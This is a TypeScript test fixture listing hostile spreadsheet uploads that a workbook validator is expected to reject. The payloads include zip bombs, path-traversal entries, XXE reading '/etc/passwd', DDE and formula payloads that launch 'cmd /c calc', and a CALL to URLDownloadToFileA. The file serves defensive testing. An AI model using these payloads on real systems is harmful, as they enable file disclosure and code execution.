import { deflateRawSync } from 'node:zlib'
import { packWorkbook, workbookPartsOf, sheetXml } from './made.ts'
import {
  workbookWithReplacedText,
  workbookWithFormula,
  createValidWorkbookParts,
  externalLinkParts,
  workbookWithChangedFiles,
  BASELINE_SHEET_PART,
  workbookWithSize,
  workbookWithParts,
} from './spoil.ts'

/** A kind of workbook that is refused: a description, its content, and the expected reason. */
export type HostileWorkbook = [what: string, content: () => Buffer, why: RegExp]

const MACRO = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'
const MANY = 100_001
const zeros = Buffer.alloc(12 * 1024 * 1024)

/** Files that are hostile whatever their sheets contain. */
export const HOSTILE_FILES: HostileWorkbook[] = [
  // The file is not what its name says.
  ['nothing', () => Buffer.alloc(0), /empty/],
  ['an old .xls, renamed', () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(1024, '0'), 'hex'), /\.xls\)/],
  [
    'one locked with a password',
    () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]),
    /has a password/,
  ],
  [
    'a binary .xlsb, renamed',
    () => packWorkbook({ ...createValidWorkbookParts(), 'xl/workbook.bin': 'x' }),
    /\.xlsb/,
  ],
  ['a page, renamed', () => Buffer.from('<html><table><tr><td>4.1'), /type of file is not accepted/],
  ['a list in CSV, renamed', () => Buffer.from('a,b\n1,2\n'), /type of file is not accepted/],
  [
    'a document of Word, renamed',
    () =>
      packWorkbook({
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        'word/document.xml': '<w/>',
      }),
    /type of file is not accepted/,
  ],
  [
    'a template, renamed',
    () => workbookWithReplacedText('[Content_Types].xml', 'sheet.main', 'template.main'),
    /type of file is not accepted/,
  ],
  [
    'one that does not declare its type',
    () => workbookWithChangedFiles(files => files.shift()),
    /type of file is not accepted/,
  ],
  [
    'one that declares itself a picture',
    () =>
      workbookWithReplacedText(
        '[Content_Types].xml',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        'image/png',
      ),
    /type of file is not accepted/,
  ],
  [
    'a workbook that is a PDF too',
    () => Buffer.concat([Buffer.from('%PDF-1.7\n'), packWorkbook(createValidWorkbookParts())]),
    /type of file is not accepted/,
  ],
  // The archive is broken or harmful to unpack.
  ['half of one', () => packWorkbook(createValidWorkbookParts()).subarray(0, 900), /broken|not accepted/],
  ['one without its directory', () => packWorkbook(createValidWorkbookParts()).subarray(0, -40), /broken/],
  [
    'one with something after it',
    () => Buffer.concat([packWorkbook(createValidWorkbookParts()), Buffer.from('<script>')]),
    /broken/,
  ],
  [
    'a wrong checksum',
    () => workbookWithChangedFiles(files => Object.assign(files.at(5)!, { crc: 7 })),
    /checksums are wrong/,
  ],
  ['a bomb', () => workbookWithParts({ 'xl/media/image1.png': zeros }), /suspiciously tight/],
  [
    'a bomb that lies about its size',
    () =>
      workbookWithChangedFiles(files =>
        files.push(
          Object.assign(
            { name: 'xl/media/a.png', content: '', isDeflated: true },
            { content: zeros as unknown as string, claims: 9 },
          ),
        ),
      ),
    /broken/,
  ],
  [
    'a sheet larger than any',
    () => workbookWithChangedFiles(files => Object.assign(files.at(5)!, { claims: 150 * 1024 * 1024 })),
    /tight|broken/,
  ],
  [
    'an archive in it',
    () => workbookWithParts({ 'xl/media/image1.png': packWorkbook({ a: 'b' }) }),
    /another archive/,
  ],
  [
    'a file in it with the name of an archive',
    () => workbookWithParts({ 'xl/embeddings/plans.zip': 'x' }),
    /another archive/,
  ],
  [
    'a workbook in it',
    () => workbookWithParts({ 'xl/embeddings/Sheet1.xlsx': packWorkbook(createValidWorkbookParts()) }),
    /another archive/,
  ],
  [
    'a gzip in it',
    () =>
      workbookWithParts({
        'xl/media/image1.png': Buffer.concat([Buffer.from([0x1f, 0x8b, 8]), deflateRawSync('x')]),
      }),
    /another archive/,
  ],
  ['a program in it', () => workbookWithParts({ 'xl/embeddings/setup.exe': 'x' }), /a program/],
  [
    'a program in disguise in it',
    () => workbookWithParts({ 'xl/embeddings/oleObject1.bin': Buffer.from([0x4d, 0x5a, 0x90, 0, 3]) }),
    /a program/,
  ],
  ['a path that leaves its folder', () => workbookWithParts({ '../../etc/cron.d/evil': 'x' }), /outside it/],
  ['a path from the root', () => workbookWithParts({ '/etc/passwd': 'x' }), /outside it/],
  ['a path for Windows', () => workbookWithParts({ 'xl\\evil': 'x' }), /outside it/],
  [
    'a link in the archive',
    () =>
      workbookWithChangedFiles(files =>
        files.push(
          Object.assign({ name: 'xl/a', content: '/etc/passwd', isDeflated: false }, { isLink: true }),
        ),
      ),
    /links/,
  ],
  [
    'a locked part',
    () => workbookWithChangedFiles(files => Object.assign(files.at(5)!, { isLocked: true })),
    /password/,
  ],
  [
    'too many parts',
    () =>
      workbookWithParts(Object.fromEntries(Array.from({ length: 1001 }, (_, at) => [`xl/media/${at}`, '']))),
    /more than 1000/,
  ],
  [
    'a repeated part',
    () =>
      workbookWithChangedFiles(files =>
        files.push({ name: BASELINE_SHEET_PART, content: '<worksheet/>', isDeflated: true }),
      ),
    /same name/,
  ],
  [
    'a known virus',
    () => workbookWithParts({ 'xl/media/a.png': 'X5O!P%EICAR-STANDARD-ANTIVIRUS-TEST-FILE!' }),
    /virus/,
  ],
  // Invalid XML.
  [
    'expanding entities',
    () =>
      workbookWithParts({
        [BASELINE_SHEET_PART]:
          '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>',
      }),
    /outside it/,
  ],
  [
    'an entity from a file',
    () =>
      workbookWithParts({
        'xl/styles.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
      }),
    /outside it/,
  ],
  [
    'a sheet in UTF-16',
    () => workbookWithParts({ [BASELINE_SHEET_PART]: Buffer.from('\uFEFF<worksheet/>', 'utf16le') }),
    /UTF-8/,
  ],
  [
    'texts by the hundred thousand',
    () =>
      workbookWithParts({
        'xl/sharedStrings.xml': `<sst>${Array.from({ length: MANY }, (_, at) => `<si><t>${at * 7919}</t></si>`).join('')}</sst>`,
      }),
    /more than 100,000 texts/,
  ],
  ['a text that is not there', () => workbookWithSize('<c r="H11" t="s"><v>99</v></c>'), /that is missing/],
  // External links, and content that starts something.
  [
    'a link that calls a program (DDE)',
    () =>
      workbookWithParts({
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
    /DDE/,
  ],
  [
    'a link that calls a program (OLE)',
    () =>
      workbookWithParts({
        'xl/externalLinks/externalLink1.xml': '<externalLink><oleLink progId="Package"/></externalLink>',
      }),
    /OLE/,
  ],
  [
    'a link to a page',
    () => workbookWithParts(externalLinkParts('https://example.org/a.xlsx')),
    /on the network/,
  ],
  ['a link to a share', () => workbookWithParts(externalLinkParts('smb://example.org/a')), /on the network/],
  [
    'a formula that starts a program',
    () => workbookWithFormula('cmd|&apos;/c calc&apos;!A1'),
    /calls another program/,
  ],
  [
    'a formula that fetches a page',
    () => workbookWithFormula('WEBSERVICE("http://example.org/"&amp;A1)'),
    /calls another program/,
  ],
  [
    'a formula that calls a library',
    () => workbookWithFormula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
    /calls another program/,
  ],
  ['a formula that asks a server', () => workbookWithFormula('RTD("x.y",,"z")'), /calls another program/],
  [
    'macros of Excel 4.0',
    () => workbookWithParts({ 'xl/macrosheets/sheet1.xml': '<x/>' }),
    /Excel 4\.0 macros/,
  ],
  ['a dialog', () => workbookWithParts({ 'xl/dialogsheets/sheet1.xml': '<x/>' }), /dialog/],
  ['ActiveX', () => workbookWithParts({ 'xl/activeX/activeX1.bin': 'x' }), /ActiveX/],
  ['a connection', () => workbookWithParts({ 'xl/connections.xml': '<connections/>' }), /fetches data/],
  ['a query', () => workbookWithParts({ 'xl/queryTables/queryTable1.xml': '<x/>' }), /fetches data/],
  ['menus of its own', () => workbookWithParts({ 'customUI/customUI.xml': '<x/>' }), /menus/],
  [
    'only macros, and no metric',
    () =>
      packWorkbook({
        ...workbookPartsOf({ Sheet1: sheetXml({ A1: 1 }) }),
        '[Content_Types].xml': `<Types><Override ContentType="${MACRO}"/></Types>`,
        'xl/vbaProject.bin': 'x',
      }),
    /neither/,
  ],
]
